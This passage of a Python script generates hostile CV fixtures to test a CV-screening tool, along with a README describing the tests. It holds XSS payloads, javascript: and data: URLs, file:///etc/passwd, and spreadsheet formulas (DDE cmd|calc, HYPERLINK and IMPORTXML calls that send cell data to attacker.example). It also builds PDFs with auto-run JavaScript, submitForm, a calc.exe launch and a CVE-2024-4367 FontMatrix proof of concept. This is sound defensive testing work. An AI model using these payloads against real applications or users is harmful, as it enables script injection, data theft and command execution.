    "--><script>alert(7)</script><!--",
    "<img src=\"https://attacker.example/pixel.png\">",
    "<link rel=stylesheet href=\"https://attacker.example/x.css\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=https://attacker.example/\">",
    "<base href=\"https://attacker.example/\">",
    "<form action=\"https://attacker.example/\"><button>Send</button></form>",
    "<style>*{display:none}</style>",
    "<b>fet</b> &lt;b&gt; &amp;amp; &#60;script&#62;",
    "{{constructor.constructor('alert(8)')()}} ${alert(9)} #{alert(10)}",
]

JS_URLS = [
    "javascript:alert(document.domain)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(2)",
    " javascript:alert(3)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:text/html,<script>alert(4)</script>",
    "vbscript:msgbox(5)",
    "https://attacker.example/?cv=",
    "//attacker.example/x.js",
    "file:///etc/passwd",
    "\\\\attacker.example\\share\\cv.docx",
]

FORMULAS = [
    "=HYPERLINK(\"https://attacker.example/?d=\"&A1;\"Klikk her\")",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|' /C notepad'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "=1+1",
    "\t=1+1",
    "=IMPORTXML(CONCAT(\"https://attacker.example/?\",A1),\"//a\")",
    "=cmd|'/c calc'!A1",
]


def safe_files() -> None:
    cv = list(CV_LINES)
    html_cv = [
        "<script>alert('navn')</script>Kari Nordmann " + HTML_STRINGS[0],
        *cv[1:4],
        cv[4] + " " + HTML_STRINGS[4],
        *cv[5:10],
        cv[10] + " " + HTML_STRINGS[1],
        cv[11] + " " + HTML_STRINGS[0],
        "",
        "Annet",
        *HTML_STRINGS,
    ]
    emit("safe-html.txt", "\n".join(html_cv).encode() + b"\n",
         "A complete CV whose name, evidence lines and a last section hold HTML and script: <img onerror>, "
         "<script>, <iframe>, <svg onload>, attribute break-outs, remote images and styles, <meta refresh>, "
         "<base>, <form>, entities, template expressions.",
         "`pass` or `review`; every string shown literally as text: no element, no script, no dialog, no "
         "request.")
    md = [
        "# <script>alert('md')</script>Kari Nordmann",
        "",
        "## Erfaring",
        "- " + cv[4],
        "",
        "## Utdanning",
        "- " + cv[7],
        "",
        "## Autorisasjoner og sertifikater",
        "- " + cv[10] + " [bekreftelse](javascript:alert(1))",
        "- " + cv[11] + " ![bilde](https://attacker.example/track.png)",
        "",
        "<details open ontoggle=alert(2)>mer</details> <javascript:alert(3)> "
        "[portefølje](data:text/html,<script>alert(4)</script>)",
    ]
    emit("safe-html.md", "\n".join(md).encode() + b"\n",
         "A complete CV in Markdown with javascript: and data: links, a remote image and raw HTML.",
         "`pass` or `review`; Markdown is not rendered: shown as literal text, no request.")
    urls = [*cv[:2], "Nettside: " + JS_URLS[0], "Portefølje: " + JS_URLS[1], *cv[2:], "", "Lenker", *JS_URLS]
    emit("safe-javascript-urls.txt", "\n".join(urls).encode() + b"\n",
         "A complete CV with javascript:, data:, vbscript:, protocol-relative, file: and UNC links.",
         "`pass` or `review`; links shown as text, never as clickable links or requests.")
    rlo, pdf_, lri, pdi, rlm = "\u202e", "\u202c", "\u2066", "\u2069", "\u200f"
    bidi = [
        f"Kari {rlo}nnamdroN{pdf_} Nordmann",
        f"{lri}{rlo}exe.fdp{pdi} Sykepleier{rlm}",
        *cv[2:11],
        cv[11] + rlo,
        "",
        f"Referanse: {rlo}ARAK{pdf_} {rlo}uten slutt",
        "Arabisk: مرحبا   Hebraisk: שלום",
        "Null bredde:\u200b\u200c\u200d\ufeff slutt",
    ]
    emit("safe-bidi.txt", "\n".join(bidi).encode() + b"\n",
         "A complete CV whose name holds a right-to-left override (U+202E), whose licence line ends in an "
         "unterminated U+202E, with isolates (U+2066/U+2069), RLM, Arabic and Hebrew, and zero-width "
         "characters.",
         "`pass` or `review`; the override characters are kept as text, and do not reorder anything outside "
         "their own string.")
    formulas = [*FORMULAS[:1], *cv[1:], "", "Ferdigheter", *FORMULAS]
    emit("safe-formula.txt", "\n".join(formulas).encode() + b"\n",
         "A complete CV whose first line and a skills section are spreadsheet formulas: =HYPERLINK, @SUM, "
         "+cmd|, -2+3+cmd|, =IMPORTXML, DDE.",
         "`pass` or `review`; in CSV no cell starts with = + - @ tab or CR (a leading ' is added).")

    # DOCX: HTML in runs, and a hyperlink whose relationship target is javascript:
    paras = [
        "<img src=x onerror=alert(1)>Kari Nordmann",
        *cv[1:11],
        cv[11] + " <script>alert(2)</script>",
    ]
    body = "".join(
        f'<w:p><w:r><w:t xml:space="preserve">{cvlib._xml_escape(p)}</w:t></w:r></w:p>' if p else "<w:p/>"
        for p in paras
    )
    body += ('<w:p><w:hyperlink r:id="rId9"><w:r><w:t>Portefølje</w:t></w:r></w:hyperlink>'
             '<w:hyperlink r:id="rId10"><w:r><w:t> og blogg</w:t></w:r></w:hyperlink></w:p>')
    doc = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
           f'<w:document xmlns:w="{W_NS}" xmlns:r="{R_NS}"><w:body>{body}<w:sectPr/></w:body></w:document>')
    rels = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            '<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
            'hyperlink" Target="javascript:alert(3)" TargetMode="External"/>'
            '<Relationship Id="rId10" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
            'hyperlink" Target="https://attacker.example/?from=docx" TargetMode="External"/>'
            '</Relationships>')
    emit("safe-html.docx", zip_bytes([Entry("[Content_Types].xml", CONTENT_TYPES), Entry("_rels/.rels", ROOT_RELS),
                                      Entry("word/document.xml", doc.encode()),
                                      Entry("word/_rels/document.xml.rels", rels.encode())]),
         "A complete CV DOCX with HTML in its runs and two external hyperlinks (javascript: and "
         "https://attacker.example/).",
         "`pass` or `review`; text shown literally, the links are not followed or shown as links.")

    resume = {
        "basics": {
            "name": "<script>alert('json')</script>Kari Nordmann",
            "label": "Sykepleier <img src=x onerror=alert(1)>",
            "url": "javascript:alert(2)",
            "image": "https://attacker.example/photo.png",
            "profiles": [{"network": "<b>nett</b>", "url": "javascript:alert(3)"}],
        },
        "work": [{"name": "Havbu sykehus <svg/onload=alert(4)>", "position": "Sykepleier",
                  "startDate": "2016-01", "endDate": "2024-06", "url": "javascript:alert(5)"}],
        "education": [{"institution": "Nordfjell universitet", "studyType": "Bachelor", "area": "sykepleie",
                       "startDate": "2013-08", "endDate": "2016-06"}],
        "certificates": [{"name": "Autorisasjon som sykepleier", "issuer": "Helsedirektoratet", "date": "2016-07"},
                         {"name": "Førerkort klasse B", "issuer": "<iframe src=javascript:alert(6)>"}],
    }
    emit("safe-html.json", json.dumps(resume, ensure_ascii=False, indent=2).encode() + b"\n",
         "A complete JSON Resume with HTML and javascript: URLs in its fields.",
         "`pass` or `review`; every field shown as literal text.")

    # PDF: JavaScript actions and links; the text is a complete CV.
    extra = [
        b"<< /S /JavaScript /JS (app.alert\\(1\\); this.submitForm\\('https://attacker.example/'\\);) >>",
        b"<< /Type /Annot /Subtype /Link /Rect [56 700 300 720] /Border [0 0 0] "
        b"/A << /S /URI /URI (javascript:alert\\(2\\)) >> >>",
        b"<< /Type /Annot /Subtype /Link /Rect [56 680 300 700] /Border [0 0 0] "
        b"/A << /S /URI /URI (https://attacker.example/?from=pdf) >> >>",
        b"<< /Type /Annot /Subtype /Link /Rect [56 660 300 680] /Border [0 0 0] "
        b"/A << /S /Launch /F (calc.exe) >> >>",
    ]
    emit("safe-pdf-javascript.pdf",
         simple_pdf([CV_LINES], extra_objs=extra,
                    catalog_extra=b"/OpenAction 4 0 R /Names << /JavaScript << /Names [(x) 4 0 R] >> >> ",
                    page_extra=b" /Annots [5 0 R 6 0 R 7 0 R] /AA << /O 4 0 R >>"),
         "A complete CV PDF with an /OpenAction and document-level JavaScript (app.alert, submitForm), a "
         "page-open action, and link annotations to javascript:, https://attacker.example/ and a /Launch "
         "of calc.exe.",
         "`pass` or `review`; no script runs, no link is followed, no request, no dialog.")

    # CVE-2024-4367: a Type1 font whose /FontMatrix carries JavaScript as a string.
    chars = "".join(sorted(set("".join(CV_LINES))))
    font, l1, l2, l3 = type1_font("SikteCVE", chars)
    font_file = stream(font, f"/Length1 {l1} /Length2 {l2} /Length3 {l3} ".encode())
    font_objs = [
        b"<< /Type /Font /Subtype /Type1 /BaseFont /SikteCVE /FirstChar 32 /LastChar 255 "
        b"/Widths [" + b" ".join(b"600" for _ in range(224)) + b"] /Encoding /WinAnsiEncoding "
        b"/FontDescriptor 5 0 R "
        b'/FontMatrix [1 0 0 1 0 (\\"\\);alert\\(1\\)//)] >>',
        b"<< /Type /FontDescriptor /FontName /SikteCVE /Flags 32 /FontBBox [0 0 1000 800] /ItalicAngle 0 "
        b"/Ascent 800 /Descent 0 /CapHeight 700 /StemV 80 /FontFile 6 0 R >>",
        font_file,
    ]
    pdf = simple_pdf([CV_LINES], resources=b"<< /Font << /F1 4 0 R >> >>", font_objs=font_objs)
    emit("safe-cve-2024-4367-fontmatrix.pdf", pdf,
         "A complete CV PDF set in an embedded Type 1 font whose font dictionary has the CVE-2024-4367 "
         r"proof-of-concept shape `/FontMatrix [1 0 0 1 0 (\"\);alert\(1\)//)]` (the string "
         '`");alert(1)//` where a number belongs), '
         "which pdf.js before 4.2.67 pasted into generated glyph-drawing code.",
         "`pass` or `review`; no script runs, no dialog (pdf.js ≥ 4.2.67, isEvalSupported: false, text "
         "only, and the page's CSP refuses eval).")


# ---------------------------------------------------------------------------


README_HEAD = """\
# Hostile fixtures

Generated by `python3 scripts/hostile/make_hostile.py` (Python 3.11 standard
library only; deterministic: the same bytes on every run with the same zlib).
Do not edit by hand. Every file is under 1 MB; what it inflates, expands or
nests to is much larger. Every CV, person, place and address is fictional;
`attacker.example` is a reserved name that never resolves.

The files are screened against `requirements.txt` (four lines: a driving
licence, an authorisation, two years of experience, and a police certificate
that a person checks later) by:

- `crates/cli/tests/hostile.rs` — `sikte screen --format json` on `cvs/`:
  exit 0, every file in the report once, every file not named `safe-*` is
  `review` with a warning (`pages-claimed-5000.pdf` may lack one: the reader
  counts the one real page), each file alone gives what it gives in the
  batch, evidence spans quote the text, CSV cells inert (also for file names
  that are formulas), JSON byte-identical across runs; it prints how long
  each file takes (`cargo test -p sikte-cli --test hostile -- --nocapture`).
- `tests/e2e/hostile.test.mjs` — the served page screens all of `cvs/`: a row
  for every file, `review` for every file not named `safe-*`, no dialog, no
  request off the origin, the page answers while the batch runs, and hostile
  strings render as text. It also checks the security headers and that the
  CSP refuses `eval` and `new Function`.

Two kinds of file:

- **Broken, over a limit, or not what its name says** (no `safe-` prefix):
  must end as `review` with a warning that says why; the batch goes on.
- **`safe-*`**: a readable, complete CV (it meets every requirement if read
  right) full of hostile *strings*. It may pass; every string must be shown
  literally as text, nothing runs, nothing is fetched, no dialog opens, and in
  CSV no cell starts with `=`, `+`, `-`, `@`, tab or CR.

The CLI and the page read PDFs with different readers (`pdf_oxide` and
pdf.js), so a broken PDF may fail differently: the CLI refuses the four
`deep-*.pdf` files outright (nesting over its limit), while pdf.js reads the
text in front of the nesting; both end as `review`.

| File | What it is | What must happen |
|---|---|---|
"""


def write_readme() -> None:
    rows = []
    for name, what, must in sorted(FIXTURES):
        size = os.path.getsize(os.path.join(CVS, name))
        rows.append(f"| `cvs/{name}` ({size:,} B) | {what.replace('|', '&#124;')} | {must.replace('|', '&#124;')} |")
    cvlib.write_text(os.path.join(OUT, "README.md"), README_HEAD + "\n".join(rows) + "\n")


def main() -> None:
    zip_bombs()
    xml_attacks()
    many_entries()
    json_attack()
    pdf_attacks()
    page_count_attacks()
    broken_files()
    wrong_extensions()
    safe_files()
    cvlib.write_text(os.path.join(OUT, "requirements.txt"), "\n".join(REQUIREMENTS) + "\n")
    write_readme()
    names = {n for n, _, _ in FIXTURES}
    stale = sorted(set(os.listdir(CVS)) - names)
    if stale:
        print("not written by this script (delete by hand?):", ", ".join(stale), file=sys.stderr)
    print(f"wrote {len(FIXTURES)} files to {os.path.relpath(CVS, ROOT)}/, README.md and requirements.txt")


if __name__ == "__main__":
    main()
